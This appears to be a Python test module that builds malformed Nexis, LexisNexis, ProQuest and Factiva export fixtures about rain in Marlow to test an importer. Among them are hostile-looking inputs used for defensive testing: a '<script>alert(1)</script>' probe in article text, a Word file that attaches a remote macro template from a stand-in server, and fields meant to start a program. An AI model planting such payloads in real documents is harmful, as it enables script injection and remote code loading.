        + "".join(line(p) for p in s.long().split("\n\n"))
        + line("Classification")
        + line("Language: ENGLISH")
        + line("Publication-Type: Newspaper")
        + line("Subject: RAIN (90%); DROUGHT (78%)")
        + line("Geographic: MARLOW (90%)")
        + line("Load-Date: March 2, 2026")
        + line("End of Document")
    )
    members = {"[Content_Types].xml": PICTURE_TYPES, "_rels/.rels": PICTURE_RELS}
    if part:
        members |= {
            "word/document.xml": f'<?xml version="1.0" encoding="UTF-8"?><w:document {W_WITH_PICTURES}><w:body>{body}</w:body></w:document>',
            "word/_rels/document.xml.rels": LINKS if picture else LINKS.split("<Relationship ")[0] + "</Relationships>",
        }
    return packed(members)


def nexis_word(s, inside="", document_rels="", last=False, method=zipfile.ZIP_DEFLATED, **parts):
    """Return an export of Nexis Uni as Word with parts that may be changed."""
    members = {
        "[Content_Types].xml": STYLED_TYPES,
        "_rels/.rels": RELS_OF_PARTS.format(
            f'<Relationship Id="rId1" Type="{OFFICE}/officeDocument" Target="word/document.xml"/>'
        ),
        "word/document.xml": parts.get("document") or nexis_document_xml(s, inside),
        "word/styles.xml": STYLES,
        "word/_rels/document.xml.rels": RELS_OF_PARTS.format(
            f'<Relationship Id="rId1" Type="{OFFICE}/styles" Target="styles.xml"/>' + document_rels
        ),
    } | parts.get("more", {})
    if last:
        members["[Content_Types].xml"] = members.pop("[Content_Types].xml")
    return packed(members, method=method)


def template(s):
    return nexis_word(
        s,
        document_rels=f'<Relationship Id="rId2" Type="{OFFICE}/settings" Target="settings.xml"/>',
        more={
            "word/settings.xml": f'<?xml version="1.0" encoding="UTF-8"?><w:settings {W}><w:attachedTemplate r:id="rId1"/></w:settings>',
            "word/_rels/settings.xml.rels": RELS_OF_PARTS.format(
                f'<Relationship Id="rId1" Type="{OFFICE}/attachedTemplate" Target="http://l.example/rain.dotm" TargetMode="External"/>'
            ),
        },
    )


def latin(s):
    text = (
        nexis_document_xml(s)
        .replace('encoding="UTF-8"', 'encoding="ISO-8859-1"')
        .replace("the clerk of", "the clerk José Núñez of")
    )
    return nexis_word(s, document=text.encode("latin-1"))


def damaged_styles(s):
    data = bytearray(nexis_word(s, method=zipfile.ZIP_STORED))
    data[data.index(b"heading 1")] ^= 1
    return bytes(data)


def nexis_of_two(s, **how):
    return docx(*(p for n in (1, 2) for p in nexis_document(n, body=(s.text(n), s.text(n + 4)), **how)))


def nexis_month(s):
    return docx(
        *(
            p.replace("March 3, 2026 Tuesday 6:12 AM EST", f"{month} 2026")
            for n, month in ((1, "February"), (2, "March"))
            for p in nexis_document(n, body=(s.text(n), s.text(n + 4)))
        )
    )


def lexis_in_windows_lines(s):
    """Return an export of LexisNexis with the line ends of Windows."""
    return "".join(
        f"\n                               {n} of 2 DOCUMENTS\n\n\n                                  The Ledger\n\n                             March {n}, 2026 Sunday\n                              Late Edition - Final\n\nRain {n} in {s.mark}\n\nBYLINE: By ANA ROE\n\nSECTION: Section B; Column 1; Metropolitan Desk; Pg. 3\n\nLENGTH: 70 words\n\n   {s.text(n)}\n\n   {s.text(n + 4)}\n\nURL: http://l.example/{n}\n\nLOAD-DATE: March 4, 2026\n\nLANGUAGE: ENGLISH\n\nPUBLICATION-TYPE: Newspaper\n\n                            Copyright 2026 Ledger Media\n\n\n"
        for n in (1, 2)
    ).replace("\n", "\r\n")


def factiva_italian(s):
    return factiva(
        *(
            factiva_document(
                [
                    f'<div id="hd"><span class="itHeadline">Pioggia {n} a {s.mark}</span></div>',
                    "Di Ana Roe",
                    "40 parole",
                    f"{n} marzo 2026",
                    "La Gazzetta",
                    "GAZZ",
                    "Italiano",
                    "Copyright 2026 Gazzetta",
                ],
                [
                    f"La pioggia è caduta sulla città di {s.mark} domenica {n} marzo, e il consiglio è tornato a casa senza votare.",
                    f"Nessuno aveva portato l'ombrello, ha detto la segretaria di {s.mark} dopo la riunione numero {n}.",
                ],
                [],
                language="it",
                number=n,
            )
            for n in (1, 2)
        )
    )


def proquest_credit(s):
    return proquest(
        *(
            proquest_record(
                n,
                f"{s.text(n)}\r\n\r\n{s.text(n + 3)}\r\n\r\nIllustration\r\n\r\nCaption: A wet street.\r\n\r\nCredit: Ana Roe; Staff Writer".replace(
                    "\r\n", "\n"
                ),
            )
            for n in (1, 2, 3)
        )
    )


def headlines_page(s):
    rows_ = "".join(
        f'<tr class="headline"><td class="count">{n}.</td><td><a class="enHeadline" href="#">Rain {n} in {s.mark}</a><div class="leadFields"><a href="#">The Ledger</a>, 0{n} March 2026, 40 words, (English)</div></td></tr>'
        for n in (1, 2, 3)
    )
    return f'<html><head><title>Factiva</title></head><body><h1>Dow Jones Factiva</h1><div id="headlines"><table>{rows_}</table></div><table><tr><td>Search Summary</td></tr></table></body></html>'


KINDS = [
    Kind("Nexis", "a.docx", lambda s: docx(*nexis(s)), 2),
    Kind("document without a body", "a.docx", lambda s: docx(*nexis(s, body=())), 1, NO_TEXT),
    Kind("document without its end", "a.docx", lambda s: docx(*nexis(s)[:-1]), 2),
    Kind("documents without bookmarks", "a.docx", lambda s: docx(*(p for n in (1, 2) for p in nexis_document(n, body=(s.text(n), s.text(n + 4)), marked=False))), 2),
    Kind("list of documents alone", "a.docx", lambda s: docx(para("*Documents (2)"), para("1. ", "Rain")), 0, ("no article",)),
    Kind("LexisNexis", "a.txt", lexis, 2),
    Kind("LexisNexis without a date", "a.txt", lambda s: lexis(s, drop="March 2, 2026 Tuesday"), 1, NO_TEXT),
    Kind("LexisNexis without a foot", "a.txt", lambda s: lexis(s, drop="LOAD-DATE: March 4, 2026"), 2),
    Kind("LexisNexis cut off", "a.txt", lambda s: lexis(s)[: lexis(s).index("BYLINE", 400)], 1, NO_TEXT),
    Kind("LexisNexis, other line ends", "a.txt", lambda s: lexis(s).replace("\n", "\r\n"), 2),
    Kind("LexisNexis in Windows-1252", "a.txt", lambda s: lexis(s).replace("council", "café").encode("cp1252"), 2),
    Kind("LexisNexis, first line alone", "a.txt", lambda s: "1 of 2 DOCUMENTS\n", 0, ("no article",)),
    Kind("LexisNexis in HTML", "a.html", lambda s: f"<html><body><DOCFULL>{lexis(s)}</DOCFULL></body></html>".replace("\n\n", "<br>"), 2),
    Kind("ProQuest", "a.txt", proquest_of, 3),
    Kind("ProQuest without a text", "a.txt", lambda s: proquest_of(s, second="Not available."), 2, NO_TEXT),
    Kind("ProQuest with an empty text", "a.txt", lambda s: proquest_of(s, second=""), 2, NO_TEXT),
    Kind("ProQuest cut off", "a.txt", lambda s: proquest_of(s)[: proquest_of(s).index("Document 3")] + "Document 3 of 3\r\n\r\nRain", 2, ("no article",)),
    Kind("rules without a record", "a.txt", lambda s: proquest_of(s).replace("Document 2", "_" * 60 + "\r\n\r\n" + "_" * 60 + "\r\n\r\nDocument 2"), 3),
    Kind("ProQuest in UTF-16", "a.txt", lambda s: proquest_of(s).encode("utf-16"), 3),
    Kind("Factiva", "a.html", factiva_of, 2),
    Kind("Factiva without paragraphs", "a.html", lambda s: factiva_of(s, lines=()), 1, NO_TEXT),
    Kind("Factiva cut off", "a.html", lambda s: factiva_of(s)[: factiva_of(s).index("Search Summary") - 60], 2),
    Kind("Factiva with markup in its text", "a.html", lambda s: factiva_of(s, lines=(s.text(2) + "<script>alert(1)</script>", s.text(6))), 2),
    Kind("Factiva with NULs", "a.html", lambda s: factiva_of(s).replace("council", "coun\0cil", 1), 2),
    Kind("Factiva in UTF-16", "a.html", lambda s: factiva_of(s).encode("utf-16"), 2),
    Kind("LexisNexis that counts more than there are", "a.txt", lambda s: lexis(s).replace("of 2 DOCUMENTS", "of 500 DOCUMENTS"), 2),
    Kind("LexisNexis below a mark and blank lines", "a.txt", lambda s: "\ufeff\n\n\n" + lexis(s), 2),
    Kind("ProQuest in UTF-16, another", "a.txt", lambda s: proquest_of(s).encode("utf-16"), 3),
    Kind("ProQuest of one document", "a.txt", lambda s: "\n\n".join(proquest_of(s).replace("\r\n", "\n").split("_" * 60)[i] for i in (1,)), 1),
    Kind("Factiva without a document", "a.html", lambda s: factiva(), 0, ("no story",)),
    Kind("Factiva cut off, another", "a.html", lambda s: factiva(*(factiva_document([factiva_title(f"Rain in {s.mark}")], [s.text(n), s.text(n + 3)], ["Copyright"], number=n) for n in (1, 2)))[:-260], 2),
    Kind("Nexis with a body of pictures", "a.docx", lambda s: docx(*nexis(s, body=("", ""))), 1, ("no text",)),
    Kind("Nexis text in German", "a.txt", lambda s: words(s, GERMAN), 2),
    Kind("Nexis text in French", "a.txt", lambda s: words(s, FRENCH), 2),
    Kind("ProQuest in Spanish", "a.txt", lambda s: words(s, SPANISH, proquest_of), 3),
    Kind("ProQuest in German", "a.txt", lambda s: words(s, GERMAN_PROQUEST, proquest_of), 3),
    Kind("Factiva with German articles", "a.html", lambda s: words(s, {"enArticle": "deArticle", "enHeadline": "deHeadline", "enarticleParagraph": "dearticleParagraph", "40 words": "40 Wörter", "3 March 2026": "3. März 2026", "English": "Deutsch"}, factiva_of), 2),
    Kind("Factiva with French articles", "a.html", lambda s: words(s, {"enArticle": "frArticle", "enHeadline": "frHeadline", "enarticleParagraph": "frarticleParagraph", "40 words": "40 mots", "3 March 2026": "3 mars 2026", "English": "Français"}, factiva_of), 2),
    Kind("Nexis saved as RTF, one document", "a.rtf", lambda s: r"{\rtf1\ansi\deff0{\fonttbl{\f0\fswiss Arial;}}{\*\generator LN;}\pard\plain " + lexis(s).replace("\n", "\\par\n") + "}", 0, FORM_NOT_KNOWN),
    Kind("ProQuest as RIS", "a.ris", lambda s: each(s, "TY  - NEWS\nT1  - {title}\nJF  - The Ledger\nPY  - 2026\nN2  - {text}\nER  - \n\n"), 0, FORM_NOT_KNOWN),
    Kind("ProQuest as XLS", "a.xls", lambda s: OLE + s.text().encode("utf-16-le"), 0, FORM_NOT_KNOWN),
    Kind("Nexis text in Spanish", "a.txt", lambda s: words(s, LEXIS_IN_SPANISH), 2),
    Kind("Nexis text in Dutch", "a.txt", lambda s: words(s, DUTCH), 2),
    Kind("Nexis text in German, in Windows-1252", "a.txt", lambda s: words(s, GERMAN).encode("cp1252"), 2),
    Kind("ProQuest in French", "a.txt", lambda s: words(s, PROQUEST_IN_FRENCH, proquest_of), 3),
    Kind("ProQuest in Italian", "a.txt", lambda s: words(s, ITALIAN, proquest_of), 3),
    Kind("Factiva as text", "a.txt", lambda s: each(s, "HD  {title}\nBY  By Ana Roe\nWC  40 words\nPD  {n} March 2026\nSN  The Ledger\nLP  {text}\nTD  {text}\nAN  Document LEDG00002026030{n}\n\n"), 0, FORM_NOT_KNOWN),
    Kind("Nexis text in French, numbered as in English", "a.txt", lambda s: words(s, LEXIS_IN_FRENCH), 2),
    Kind("Nexis text in Italian", "a.txt", lambda s: words(s, LEXIS_IN_ITALIAN), 2),
    Kind("ProQuest in Portuguese", "a.txt", lambda s: words(s, PORTUGUESE, proquest_of), 3),
    Kind("Factiva with Spanish articles", "a.html", lambda s: words(s, {"enArticle": "esArticle", "enHeadline": "esHeadline", "enarticleParagraph": "esarticleParagraph", "40 words": "40 palabras", "3 March 2026": "3 marzo 2026", "English": "Español"}, factiva_of), 2),
    Kind("LexisNexis with marks of direction", "a.txt", lambda s: "\u200e" + lexis(s).replace("BYLINE", "\u200eBYLINE"), 2),
    Kind("LexisNexis packed by gzip", "a.txt.gz", lambda s: gzip.compress(lexis(s).encode(), mtime=0), 2),
    Kind("ProQuest in a ZIP", "a.zip", lambda s: packed({"a.txt": proquest_of(s).encode()}), 3),
    Kind("LexisNexis with line ends of an old Mac and form feeds", "a.txt", lambda s: lexis(s).replace("LOAD-DATE: March 4, 2026\n", "LOAD-DATE: March 4, 2026\n\f").replace("\n", "\r"), 2),
    Kind("LexisNexis twice, one behind the other", "a.txt", lambda s: lexis(s) + lexis(s), 2, repeats=2),
    Kind("ProQuest that lacks the second of three", "a.txt", lambda s: (lambda parts: ("_" * 60).join(parts[:2] + parts[3:]))(proquest_of(s).split("_" * 60)), 2),
    Kind("second document of three cut in Nexis", "a.docx", lambda s: docx(*nexis(s)[:9], *nexis(s, numbers=(2,))), 2),
    Kind("Factiva with one document twice", "a.html", lambda s: factiva_of(s).replace("<table>", factiva_of(s).partition("</h1>")[2].partition("<table>")[0].partition('<div id="article-LEDG000020260302')[0] + "<table>"), 2, repeats=1),
    Kind("ProQuest cut in a text", "a.txt", lambda s: proquest_of(s)[: proquest_of(s).index("on day 3") + 60], 3),
    Kind("LexisNexis whose second is cut in the text", "a.txt", lambda s: lexis(s)[: lexis(s).index("on day 2") + 90], 2),
    Kind("LexisNexis with wrong numbers", "a.txt", lambda s: lexis(s).replace("2 of 2 DOCUMENTS", "7 of 2 DOCUMENTS"), 2),
    Kind("LexisNexis with a text of a word", "a.txt", lambda s: lexis(s).replace(s.text(2), "Rain.").replace(s.text(6), "Snow."), 1, NO_STORY),
    Kind("Factiva cut in the head of the second", "a.html", lambda s: (lambda text: text[: text.rindex("40 words")])(factiva_of(s)), 1, NO_TEXT),
    Kind("ProQuest with references to signs", "a.txt", lambda s: proquest_of(s).replace("council", "council &amp; clerk"), 3),
    Kind("ProQuest with line ends of an old Mac", "a.txt", lambda s: proquest_of(s).replace("\r\n", "\r"), 3),
    Kind("Factiva in capitals", "a.html", lambda s: factiva_of(s).replace("<div", "<DIV").replace("</div>", "</DIV>").replace("<p", "<P").replace("</p>", "</P>"), 2),
    Kind("LexisNexis behind a cover", "a.txt", lambda s: "Time of Request: Sunday, March 1, 2026 10:00:00 EST\nJob Number: 1:234\n\nSearch Terms: rain\n\n" + lexis(s), 2),
    Kind("document of Nexis that is empty between two", "a.docx", lambda s: docx(*nexis(s, body=("",))), 1, NO_TEXT),
    Kind("LexisNexis whose last line is cut", "a.txt", lambda s: lexis(s)[:-25], 2),
    Kind("ProQuest without rules at the ends", "a.txt", lambda s: ("\n\n" + "_" * 60 + "\n\n").join(proquest_record(n, s.text(n)) for n in (1, 2, 3)), 3),
    Kind("Factiva below the bar of the archive of the web", "a.html", lambda s: factiva_of(s).replace("<body>", "<body><div id='wm-ipp'>Saved on March 4</div>"), 2),
    Kind("LexisNexis and ProQuest in a file", "a.txt", lambda s: lexis(s) + "\n\n" + fog(proquest_of(s)), 5),
    Kind("ProQuest and LexisNexis in a file", "a.txt", lambda s: fog(proquest_of(s)) + "\n\n" + lexis(s), 5),
    Kind("two ProQuest exports in a file", "a.txt", lambda s: proquest_of(s) + "\n" + fog(proquest_of(s)), 6),
    Kind("two Factiva pages in a file", "a.html", lambda s: factiva_of(s) + fog(factiva_of(s)).replace("article-", "article-X"), 4),
    Kind("Factiva and a saved page in a file", "a.html", lambda s: factiva_of(s) + s.page(n=3), 3),
    Kind("saved page and Factiva in a file", "a.html", lambda s: s.page(n=3) + factiva_of(s), 3),
    Kind("LexisNexis beside a PDF in a ZIP", "a.zip", lambda s: packed({"nexis.txt": lexis_with_empty_text(s), "scan.pdf": PDF}), 3, ("form not known",)),
    Kind("LexisNexis whose second of three has no text", "a.txt", lambda s: lexis_with_empty_text(s, 3, empty=2), 2, ("no text",)),
    Kind("LexisNexis with nearly every label that it has", "a.txt", lexis_with_every_label, 2),
    Kind("ProQuest that says of the second that its text is not there", "a.txt", proquest_with_missing_text, 2, ("no text",)),
    Kind("delivery of Nexis in single documents with their list", "delivery.zip", lambda s: packed([("a_doclist.docx", docx(*COVER)), ("Rain 1.docx", nexis_one(s, 1)), ("Rain 2.docx", nexis_one(s, 2))]), 2, ("no article",)),
    Kind("LexisNexis with one document twice", "a.txt", lambda s: lexis_with_labels(s, [1, 2, 1]), 2, repeats=1),
    Kind("ProQuest whose second text is not available", "a.txt", lambda s: proquest(*(proquest_record(n, "Not available." if n == 2 else s.long(n).replace("\n\n", " "), Title=f"Rain {n} in {s.mark}") for n in (1, 2, 3))), 2, ("no text",)),
    Kind("two saved pages of Factiva that overlap by one document", "", lambda s: {"a.html": factiva_pages(s, 1, 2), "b.html": factiva_pages(s, 2, 3)}, 3, repeats=1),
    Kind("LexisNexis whose lines stand behind tabs", "a.txt", lambda s: lexis_centered(s, middle=lambda words: "\t\t\t" + words), 2),
    Kind("LexisNexis with a blank line behind each line", "a.txt", lambda s: lexis_centered(s).replace("\n", "\n\n"), 2),
    Kind("LexisNexis without the blanks in front of its lines", "a.txt", lambda s: lexis_centered(s, middle=lambda words: words), 2),
    Kind("LexisNexis named as an old Word document", "a.doc", lexis_centered, 2),
    Kind("Factiva with a code in front of each field", "a.html", coded, 2),
    Kind("Factiva saved as RTF", "a.rtf", lambda s: "{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}\\pard\\b Rain in " + s.mark + "\\b0\\par 160 words\\par 1 March 2026\\par The Marlow Ledger\\par English\\par " + s.text() + "\\par Document LED0000020260301ec3100001\\par}", 0, FORM_NOT_KNOWN),
    Kind("ProQuest named as RTF", "a.rtf", proquest_interrupted, 3),
    Kind("ProQuest with a short rule within a text", "a.txt", lambda s: proquest_interrupted(s, within="_" * 10), 3),
    Kind("120 documents of ProQuest", "a.txt", lambda s: proquest_interrupted(s, 120), 120),
    Kind("Nexis named as an old Word document", "a.doc", nexis_of_one, 1),
    Kind("Nexis document whose template lies on a server", "a.docx", template, 2),
    Kind("Nexis document with fields that start a program", "a.docx", lambda s: nexis_word(s, inside=FIELD), 2),
    Kind("Nexis document packed without compression, with its list of parts last", "a.docx", lambda s: nexis_word(s, last=True, method=zipfile.ZIP_STORED), 2),
    Kind("Nexis document in XML of ISO 8859-1", "a.docx", latin, 2),
    Kind("Nexis document with a damaged sheet of styles", "a.docx", damaged_styles, 2),
    Kind("LexisNexis of the nineties with HEADLINE and BODY", "a.txt", lexis_of_old, 2, fields={"published": "1996-03-01"}),
    Kind("LexisNexis with the day before the month", "a.txt", lambda s: lexis_of_day(s, day="1 March 2026 Sunday"), 2, fields={"published": "2026-03-01"}),
    Kind("ProQuest with its list of contents on top", "a.txt", lambda s: proquest_between(s, "Table of contents\n\n" + "".join(f"{n}. Rain {n} in {s.mark}........................{n}\n" for n in (1, 2, 3)) + "\n"), 3),
    Kind("ProQuest with a bibliography at its end", "a.txt", lambda s: proquest_between(s, below=f"{LINE}\n\nBibliography\n\nCitation style: APA 7th - American Psychological Association, 7th Edition\n\n" + "".join(f"Roe, A. (2026, Mar 0{n}). Rain {n} in {s.mark}. The Marlow Ledger Retrieved from https://search.example/docview/300{n}\n\n" for n in (1, 2, 3)) + LINE), 3),
    Kind("Factiva with codes for its fields", "a.html", factiva_of_codes, 2),
    Kind("Nexis that LibreOffice saved again", "a.docx", lambda s: nexis_saved_by_office(s, office=True), 2),
    Kind("Factiva that ends behind its second article", "a.html", lambda s: factiva_without_headline(s, 2, end="").removesuffix("</div></div>\n"), 2),
    Kind("Factiva with an article that has no headline", "a.html", lambda s: factiva_without_headline(s, 3, without=2), 3),
    Kind("Nexis with a template from elsewhere", "a.docx", lambda s: nexis_saved_by_office(s, template=True), 2),
    Kind("a page to log in to Factiva", "factiva.html", lambda s: notice("Factiva", "User ID", "Password", "Remember me on this computer", "Forgot your password?", headline="Log in to Factiva"), 0, ("not an article",)),
    Kind("LexisNexis of a single document with its copyright at the end", "a.txt", lexis_one, 1),
    Kind("Nexis document with its classification below the text", "Rain.docx", lambda s: nexis_with_picture(s), 1),
    Kind("Factiva with the words of the search in bold", "Factiva.html", lambda s: factiva_in_bold(s, bold=True), 2),
    Kind("ProQuest with links and all its labels", "ProQuestDocuments.txt", lambda s: proquest_full(s, 2), 2),
    Kind("Factiva in which the end of the first article is lost", "Factiva.html", lambda s: factiva_in_bold(s, end=False), 2),
    Kind("ProQuest without the rule between the first two", "a.txt", lambda s: proquest_full(s, lost=True), 3),
    Kind("ProQuest of which no document has its text", "a.txt", lambda s: proquest_full(s, text="Not available."), 0, ("no text", "no text", "no text")),
    Kind("Nexis document without the part of its story", "Rain.docx", lambda s: nexis_with_picture(s, part=False), 0, ("form not known",)),
    Kind("Nexis document with a picture that lies on a server", "Rain.docx", lambda s: nexis_with_picture(s, PICTURE), 1),
    Kind("headline that begins as a document of LexisNexis does", "a.txt", lambda s: copied_article(s, title=f"1 of 2 Missing Hikers Is Found Near {s.mark}"), 1),
    Kind("LexisNexis of one document", "a.txt", lambda s: lexis(s, n=1).replace("1 of 1 DOCUMENTS", "1 of 1 DOCUMENT"), 1),
    Kind("magazine in LexisNexis dated by its month", "a.txt", lambda s: lexis(s).replace("March 1, 2026 Tuesday", "March 2026").replace("March 2, 2026 Tuesday", "April 2026"), 2),
    Kind("Factiva with Japanese articles", "a.html", japanese, 2),
    Kind("Nexis document with its classification", "a.docx", classified, 2),
    Kind("ProQuest without the rule between two", "a.txt", unruled, 3),
    Kind("Factiva whose first article is never closed", "a.html", unclosed, 2),
    Kind("LexisNexis with the number of a document twice", "a.txt", lambda s: lexis(s).replace("2 of 2 DOCUMENTS", "2 of 2 DOCUMENTS\n\n2 of 2 DOCUMENTS"), 2),
    Kind("Nexis export downloaded twice", "", lambda s: dict.fromkeys(["a.docx", "a (1).docx"], docx(*nexis(s))), 2, repeats=2),
    Kind("Nexis with a highlight above the body", "a.docx", lambda s: nexis_of_two(s, head=(para("*Section:", " METRO; Pg. B3"), para("*Highlight:", " The council went home early."))), 2),
    Kind("Nexis of a magazine dated by its month", "a.docx", nexis_month, 2),
    Kind("LexisNexis with an edition and line ends of Windows", "a.txt", lexis_in_windows_lines, 2),
    Kind("Factiva with Italian articles", "a.html", factiva_italian, 2),
    Kind("ProQuest with a caption and a credit behind each text", "a.txt", proquest_credit, 3),
    Kind("page of Factiva's headlines alone", "a.html", headlines_page, 0, ("no article",)),
]  # fmt: skip
